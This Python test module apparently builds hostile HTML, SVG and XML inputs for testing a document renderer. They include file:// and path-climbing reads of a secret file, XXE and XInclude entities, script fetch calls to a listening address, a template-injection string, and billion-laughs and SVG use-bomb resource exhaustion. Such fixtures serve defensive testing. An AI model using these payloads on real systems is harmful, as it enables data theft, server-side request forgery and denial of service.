"""Documents that want to run, read, reach out or never end: what somebody could type or upload."""

from collections.abc import Mapping

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
DRAWN = SVG + 'width="9" height="9" viewBox="0 0 9 9">{}</svg>'


def repeated(times: int, one: str, other: str, middle: str = "x") -> str:
    return one * times + middle + other * times


def use_bomb() -> str:
    """Ten levels of ten: ten thousand million squares."""
    levels = (
        f'<g id="l{level}">' + f'<use xlink:href="#l{level - 1}"/>' * 10 + "</g>"
        for level in range(1, 11)
    )
    return DRAWN.format('<rect id="l0" width="1" height="1"/>' + "".join(levels))


def laughs() -> str:
    """A thousand million times the same word, by ten lines (CVE-2003-1564)."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE svg [<!ENTITY l0 "lol">{lines}]>{DRAWN.format("<text>&l9;</text>")}'


READS: Mapping[str, str] = {
    "import": "<style>@import url({web}/sheet.css);</style><p>x",
    "import of a file": '<style>@import "file://{secret}";</style><p>x',
    "sheet": "<link rel=stylesheet href={web}/sheet.css><p>x",
    "attachment": "<link rel=attachment href=file://{secret}><p>x",
    "attached link": "<a rel=attachment href=file://{secret}>x</a>",
    "icon": "<link rel=icon href={web}/icon><p>x",
    "picture": "<img src={web}/picture.png alt=x>",
    "picture from a file": "<img src=file://{secret} alt=x>",
    "picture without a slash": "<img src=file:{secret} alt=x>",
    "picture by path": "<img src={secret} alt=x>",
    "picture by climbing": "<img src='asset:../../../..{secret}' alt=x>",
    "script address": "<img src='javascript:alert(1)' alt=x>",
    "data": "<img src='data:image/svg+xml,%3Csvg%3E%3C/svg%3E' alt=x>",
    "object": "<object data={web}/object type=image/png>x</object>",
    "embedded": "<embed src=file://{secret} type=image/png>",
    "frame": "<iframe src={web}/frame></iframe><p>x",
    "base": "<base href=file:///><img src=.{secret} alt=x>",
    "refresh": "<meta http-equiv=refresh content='0;url={web}/next'><p>x",
    "script": "<script src={web}/run.js></script><script>fetch('{web}')</script><p>x",
    "background": "<p style='background:url({web}/ground)'>x",
    "background of a file": "<p style='background:url(file://{secret})'>x",
    "background of the page": "<style>@page { background: url({web}/page) }</style><p>x",
    "content": "<style>p::before { content: url({web}/before) }</style><p>x",
    "bullet": "<ul style='list-style-image:url({web}/bullet)'><li>x</ul>",
    "border": "<p style='border:1px solid;border-image:url({web}/border) 1'>x",
    "mask": "<p style='mask:url({web}/mask)'>x",
    "font": "<style>@font-face { font-family: f; src: url({web}/font) }</style><p style='font-family:f'>x",
    "font as data": "<style>@font-face { font-family: f; src: url(data:font/ttf;base64,AAEAAAA=) }"
    "</style><p style='font-family:f'>x",
    "font of the machine": "<style>@font-face { font-family: f; src: local('{secret}') }</style><p>x",
    "colour profile": "<style>@color-profile --x { src: url(file://{secret}) }</style><p>x",
    "picture in a drawing": DRAWN.replace(
        "{}", '<image width="9" height="9" xlink:href="{web}/svg"/>'
    ),
    "file in a drawing": DRAWN.replace(
        "{}", '<image width="9" height="9" href="file://{secret}"/>'
    ),
    "use of another": DRAWN.replace("{}", '<use xlink:href="{web}/other.svg#a"/>'),
    "filter of another": DRAWN.replace(
        "{}",
        '<filter id="f"><feImage href="{web}/filter"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
    "fill of another": DRAWN.replace("{}", '<rect fill="url({web}/fill#a)" width="9" height="9"/>'),
    "page in a drawing": DRAWN.replace(
        "{}", "<foreignObject><iframe src='{web}/inner'/></foreignObject>"
    ),
    "sheet in a drawing": DRAWN.replace("{}", "<style>@import url({web}/in.css);</style>"),
    "sheet before a drawing": "<?xml-stylesheet href='{web}/before.css'?>" + DRAWN,
    "run by a drawing": DRAWN.replace("{}", '<path d="M0 0h1z" onload="fetch(\'{web}\')"/>'),
    "entity": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{secret}'>]>"
    + DRAWN.replace("{}", "<text>&x;</text>"),
    "entity from the web": "<!DOCTYPE svg [<!ENTITY % x SYSTEM '{web}/dtd'> %x;]>" + DRAWN,
    "inclusion": DRAWN.replace(
        "{}", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}"/>'
    ),
    "template": "{{ config }}{% include '{secret}' %}{0.__class__}<p>x",
}
"""Ask for what is not theirs; ``web`` is an address that listens, ``secret`` a file."""

ENDLESS: Mapping[str, str] = {
    "use bomb": use_bomb(),
    "laughs": laughs(),
    "nested flex": repeated(26, "<div style='display:flex'>", "</div>"),
    "nested tables": repeated(9, "<table><tr><td>", "</table>"),
    "deep": repeated(400, "<div>", "</div>"),
    "huge": "<div style='width:9e9mm;height:9e9mm;background:red'>x</div>",
    "many pages": "<div style='height:9e6mm'>x</div>",
    "marks": "<p>a" + "\u0301" * 100_000,
    "path": DRAWN.format(f'<path d="M0 0{"l9 9" * 20_000}"/>'),
    "drawn from itself": DRAWN.format('<g id="a"><use xlink:href="#a"/></g>'),
    "pattern of itself": DRAWN.format(
        '<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1" height="1"/></pattern>'
        '<rect fill="url(#p)" width="9" height="9"/>'
    ),
    "blur": DRAWN.format(
        '<filter id="f"><feGaussianBlur stdDeviation="9999"/></filter>'
        '<rect filter="url(#f)" width="9" height="9"/>'
    ),
}
"""Ask for more time or memory than there is."""


def documents(web: str, secret: str) -> dict[str, str]:
    """All of them, with a listening address and a file that nobody may read."""
    reads = {
        name: text.replace("{web}", web).replace("{secret}", secret) for name, text in READS.items()
    }
    return reads | dict(ENDLESS)
